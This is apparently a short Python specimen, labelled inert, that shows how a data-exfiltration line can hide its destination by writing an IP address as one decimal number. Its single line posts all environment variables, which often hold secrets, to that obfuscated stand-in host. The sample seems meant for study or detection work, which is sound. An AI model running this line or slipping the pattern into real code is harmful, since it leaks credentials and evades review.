# Inert specimen. Trick: the address is one decimal number (203.0.113.7), which every resolver reads.
import os

import requests

requests.post("http://3405803783/in", json=dict(os.environ))
